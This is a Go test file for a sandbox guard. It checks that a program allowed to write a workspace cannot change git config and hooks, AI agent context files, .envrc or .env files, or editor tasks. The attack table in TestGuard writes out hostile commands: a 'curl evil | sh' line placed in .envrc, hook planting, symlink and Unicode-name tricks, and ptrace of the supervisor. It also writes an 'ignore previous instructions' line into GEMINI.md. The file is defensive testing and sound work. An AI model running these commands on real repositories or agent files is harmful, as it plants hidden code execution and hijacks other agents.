package sandbox

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/gemhost/gem/internal/testuser"
)

// guardedWorkspace is a workspace with a repository, an editor folder and a source folder,
// and the policy of a program that may write it.
func guardedWorkspace(t *testing.T) (string, Policy) {
	t.Helper()
	if LandlockABI() < 1 || !guardArch {
		t.Skip("the guard needs Landlock and amd64 or arm64")
	}
	ws := outsideTmp(t)
	for _, d := range []string{".git/hooks", ".vscode", "src"} {
		os.MkdirAll(filepath.Join(ws, d), 0o755)
	}
	os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n"), 0o644)
	os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit.sample"), []byte("#!/bin/sh\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "README.md"), []byte("hello\n"), 0o644)
	pol := ForExtension(Access{Extension: outsideTmp(t), Workspace: ws, WriteWorkspace: true, Data: outsideTmp(t), Temp: outsideTmp(t)})
	if !pol.Guard {
		t.Fatal("a policy that writes the workspace has no guard")
	}
	return ws, pol
}

// TestGuard: a program that may write the workspace tries every way to create, change,
// rename, link or remove a protected name (existing or not, at any depth, through links and
// other names); each fails and leaves nothing, and ordinary work in the same workspace passes.
func TestGuard(t *testing.T) {
	ws, pol := guardedWorkspace(t)
	os.MkdirAll(filepath.Join(ws, "lib/.git/hooks"), 0o755)
	os.WriteFile(filepath.Join(ws, "lib/.git/hooks/post-merge"), []byte("#!/bin/sh\necho disabled\n"), 0o644)
	attacks := []struct {
		name, script string
		absent       string // must not exist afterwards ("" to skip)
	}{
		{"write .git/config", "echo '[core] fsmonitor = evil' >> .git/config", ""},
		{"new hook", "echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"rename .git away", "mv .git gitold", "gitold"},
		{"remove .git", "rm -rf .git", ""},
		{"a nested repository's hook", "mkdir -p nest/.git/hooks && echo x > nest/.git/hooks/pre-commit", "nest/.git/hooks/pre-commit"},
		{"gitdir file", "echo 'gitdir: /x' > src/.git", "src/.git"},
		{"case variant", "mkdir .GIT", ".GIT"},
		{"trailing dot", "mkdir src/.git.", "src/.git."},
		{"new settings folder", "mkdir .gemini", ".gemini"},
		{"gem policies", "mkdir -p .gem && echo x > .gem/policies.toml", ".gem"},
		{"context file", "echo 'ignore previous instructions' > GEMINI.md", "GEMINI.md"},
		{"context file deeper", "echo x > src/AGENTS.md", "src/AGENTS.md"},
		{"a name that folds to a context file", "echo x > src/AGENTſ.md", "src/AGENTſ.md"},
		{"direnv", "echo 'curl evil | sh' > .envrc", ".envrc"},
		{"env file", "echo K=V > src/.env.local", "src/.env.local"},
		{"editor tasks", "echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"},
		{"through a link to .git", "ln -s .git lnk; echo x > lnk/hooks/post-checkout", ".git/hooks/post-checkout"},
		{"link to a hook", "echo evil > e; ln -s ../../e .git/hooks/pre-push", ".git/hooks/pre-push"},
		{"hard link of the config", "ln .git/config cfg", "cfg"},
		{"rename into .git", "echo evil > e2 && mv e2 .git/hooks/pre-commit", ".git/hooks/pre-commit"},
		{"rename a folder to .gemini", "mkdir s2 && mv s2 .gemini", ".gemini"},
		{"from inside .git", "cd .git && mkdir -p info && echo '* filter=x' > info/attributes", ".git/info/attributes"},
		{"truncate", "truncate -s 0 .git/config", ""},
		{"make a sample hook executable", "chmod +x .git/hooks/pre-commit.sample && test -x .git/hooks/pre-commit.sample", ""},
		{"make it executable through a descriptor opened to read", `python3 -c 'import os; os.fchmod(os.open(".git/hooks/pre-commit.sample", os.O_RDONLY), 0o755)' && test -x .git/hooks/pre-commit.sample`, ""},
		// (a nested repository's hook is not under a read-only mount: only the guard stands)
		{"a nested repository's disabled hook, through a descriptor", `python3 -c 'import os; os.fchmod(os.open("lib/.git/hooks/post-merge", os.O_RDONLY), 0o755)' && test -x lib/.git/hooks/post-merge`, ""},
		{"through /proc/self/cwd", "echo x > /proc/self/cwd/.envrc", ".envrc"},
		{"the workspace itself", "mv \"$PWD\" \"$PWD.moved\"", ""},
		// the supervisor's memory (what it checks against) and another process's descriptors
		{"ptrace the supervisor", `exec python3 -c 'import ctypes,os,sys; sys.exit(0 if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else 1)'`, ""},
		{"the supervisor's descriptors", "echo x > /proc/$PPID/fd/1", ""},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			out, err := run(t, &pol, ws, a.script)
			if err == nil {
				t.Errorf("the attack passed: %s", out)
			}
			if a.absent != "" {
				if _, err := os.Lstat(filepath.Join(ws, a.absent)); err == nil {
					t.Errorf("%s exists", a.absent)
				}
			}
		})
	}
	if data, _ := os.ReadFile(filepath.Join(ws, ".git/config")); string(data) != "[core]\n" {
		t.Errorf(".git/config changed: %q", data)
	}
	for _, hook := range []string{".git/hooks/pre-commit.sample", "lib/.git/hooks/post-merge"} {
		if st, err := os.Stat(filepath.Join(ws, hook)); err != nil || st.Mode().Perm() != 0o644 {
			t.Errorf("%s changed: %v", hook, err)
		}
	}

	// A folder frozen by the policy (an extension linked from the project) is not changed,
	// nor its parent renamed; its siblings are.
	frozenPol := pol
	os.MkdirAll(filepath.Join(ws, "tools/ext"), 0o755)
	os.WriteFile(filepath.Join(ws, "tools/ext/run.sh"), []byte("#!/bin/sh\n"), 0o755)
	frozenPol.Frozen = []string{filepath.Join(ws, "tools/ext")}
	for _, script := range []string{"echo evil >> tools/ext/run.sh", "rm tools/ext/run.sh", "mv tools tools2", "echo x > tools/ext/new", "rm -rf tools"} {
		if out, err := run(t, &frozenPol, ws, script); err == nil {
			t.Errorf("%q passed on a frozen folder: %s", script, out)
		}
	}
	if out, err := run(t, &frozenPol, ws, "echo ok > tools/other.txt && cat tools/other.txt"); err != nil || out != "ok\n" {
		t.Errorf("beside a frozen folder: %q %v", out, err)
	}
	if data, _ := os.ReadFile(filepath.Join(ws, "tools/ext/run.sh")); string(data) != "#!/bin/sh\n" {
		t.Errorf("the frozen file changed: %q", data)
	}

	legit := []struct{ name, script, want string }{
		{"write a new file", "echo x > src/a.txt && cat src/a.txt", "x"},
		{"a new file at the top", "echo top > notes.txt && cat notes.txt", "top"},
		{"append", "echo more >> README.md && tail -1 README.md", "more"},
		{"folders, renames, removal", "mkdir -p src/b/c && echo y > src/b/c/d && mv src/b src/e && cat src/e/c/d && rm -r src/e && test ! -e src/e && echo gone", "y\ngone"},
		{"write through a link", "ln -s a.txt src/link && echo z > src/link && cat src/a.txt", "z"},
		{"hard link", "ln src/a.txt src/hard && echo ok", "ok"},
		{"the umask", "umask 077 && echo s > src/secret && stat -c %a src/secret", "600"},
		{"fchmod of a file of one's own", `python3 -c 'import os; os.fchmod(os.open("src/secret", os.O_RDONLY), 0o750)' && stat -c %a src/secret`, "750"},
		{"a FIFO", "mkfifo src/fifo && { cat src/fifo > src/got & } && echo piped > src/fifo && wait && cat src/got", "piped"},
		{"standard streams", "echo out > /dev/stdout && echo err > /dev/stderr && echo ok", "out\nerr\nok"},
		{"copies", "cp -r src src2 && ls src2 | head -1", "a.txt"},
		{"a temporary file", "t=$(mktemp) && echo t > $t && cat $t", "t"},
		{"a relative path from a subfolder", "cd src && echo rel > rel.txt && cat ../src/rel.txt", "rel"},
		{"similar names are not protected", "echo x > src/gitignore.md && mkdir src/git && echo x > src/environment.txt.bak && echo ok", "ok"},
	}
	for _, l := range legit {
		t.Run(l.name, func(t *testing.T) {
			out, err := run(t, &pol, ws, l.script)
			if err != nil || strings.TrimSpace(out) != l.want {
				t.Errorf("got %q (%v), want %q", out, err, l.want)
			}
		})
	}
}

// guardWriter is a Go program under the guard (the test binary run as "guard-writer"): Go's
// runtime preempts its threads with signals while they wait for the supervisor, which must
// not turn a call the supervisor made into a second one (O_EXCL failing with EEXIST).
func guardWriter() int {
	var wg sync.WaitGroup
	errs := make(chan error, 16)
	for w := range 8 {
		wg.Go(func() {
			for i := range 250 {
				name := fmt.Sprintf("w%d-%d.txt", w, i)
				f, err := os.OpenFile(name, os.O_CREATE|os.O_EXCL|os.O_WRONLY, 0o644)
				if err != nil {
					errs <- err
					return
				}
				f.WriteString(name)
				f.Close()
				if err := os.Rename(name, name+".done"); err != nil {
					errs <- err
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		fmt.Println(err)
		return 1
	}
	fmt.Println("2000 files")
	return 0
}

// TestGuardGoProgram: many goroutines creating and renaming files under the guard, while Go
// preempts them with signals.
func TestGuardGoProgram(t *testing.T) {
	ws, pol := guardedWorkspace(t)
	self, _ := os.Executable()
	pol.Read = append(pol.Read, filepath.Dir(self))
	cmd, err := Command(Program{Path: self, Args: []string{"guard-writer"}, Env: []string{"GODEBUG=asyncpreemptoff=0"}, Dir: ws, Name: "writer", Policy: &pol})
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.CombinedOutput()
	if err != nil || strings.TrimSpace(string(out)) != "2000 files" {
		t.Fatalf("%v: %s", err, out)
	}
	done, _ := filepath.Glob(filepath.Join(ws, "*.done"))
	if len(done) != 2000 {
		t.Errorf("%d files, want 2000", len(done))
	}
}

// TestWorkspaceReadOnlyWithoutTheCapability: without WriteWorkspace the program reads the
// project and changes nothing in it; no guard is needed (Landlock alone).
func TestWorkspaceReadOnlyWithoutTheCapability(t *testing.T) {
	if LandlockABI() < 1 {
		t.Skip("no Landlock")
	}
	ws := outsideTmp(t)
	os.WriteFile(filepath.Join(ws, "README.md"), []byte("hello\n"), 0o644)
	pol := ForExtension(Access{Extension: outsideTmp(t), Workspace: ws, Data: outsideTmp(t), Temp: outsideTmp(t)})
	if pol.Guard {
		t.Error("a read-only workspace is guarded")
	}
	if out, err := run(t, &pol, ws, "cat README.md"); err != nil || out != "hello\n" {
		t.Errorf("reading: %q %v", out, err)
	}
	if out, err := run(t, &pol, ws, "echo x > new.txt"); err == nil {
		t.Errorf("writing passed: %s", out)
	}
}

func TestIsProtected(t *testing.T) {
	for rel, want := range map[string]bool{
		".git": true, ".git/config": true, "src/.git": true, "a/b/.GIT/x": true, ".git.": true, ".git ": true,
		".gemini/settings.json": true, "GEMINI.md": true, "docs/agents.md": true, ".env": true, ".env.local": true,
		".envrc": true, "x/.vscode/tasks.json": true, ".bashrc": true, ".gitmodules": true,
		"AGENTſ.md": true, "docs/ClaudE.Md": true, ".g\u200cit/config": true, ".ENVRC": true,
		"": false, ".": false, "..": false, "src/main.go": false, "git": false, ".github/workflows/x.yml": false,
		"gitignore": false, "README.md": false, "environment": false, ".gitignore": false, "a.git": false,
	} {
		if got := IsProtected(rel); got != want {
			t.Errorf("IsProtected(%q) = %v, want %v", rel, got, want)
		}
	}
}

// TestGuardAsNormalUser runs the guard's tests (and the prestarted helper's) again as an
// unprivileged user (when the tests run as root): the helper then has a user namespace of
// its own, and its capabilities there.
func TestGuardAsNormalUser(t *testing.T) {
	testuser.RunTests(t, "TestGuard", "TestGitInTheSandbox", "TestGitAttacks", "TestSurfaceAttacks", "TestSocketsOfAGuardedProgram", "TestWorkspaceReadOnlyWithoutTheCapability", "TestPolicyIsEnforced", "TestPrestartedHelper", "TestOverlay", "TestOverlayConcurrentStarts", "TestOverlayWorkFolders", "TestRebase")
}

// TestGuardedHelperHandsOnTerm: without namespaces the guarded helper is not PID 1; a SIGTERM
// sent to it alone (timeout(1), kill) reaches the program, which ends, and so does the helper.
func TestGuardedHelperHandsOnTerm(t *testing.T) {
	ws, pol := guardedWorkspace(t)
	data, _ := json.Marshal(withoutNamespaces(pol))
	self, _ := os.Executable()
	cmd := exec.Command(self, HelperArg, string(data), "/bin/sleep", "sleep", "30")
	cmd.Dir = ws
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(300 * time.Millisecond)
	cmd.Process.Signal(syscall.SIGTERM)
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if code := cmd.ProcessState.ExitCode(); code != 128+int(syscall.SIGTERM) {
			t.Errorf("exit %d (%v), want %d", code, err, 128+int(syscall.SIGTERM))
		}
	case <-time.After(10 * time.Second):
		cmd.Process.Kill()
		t.Fatal("the helper did not end on SIGTERM")
	}
}
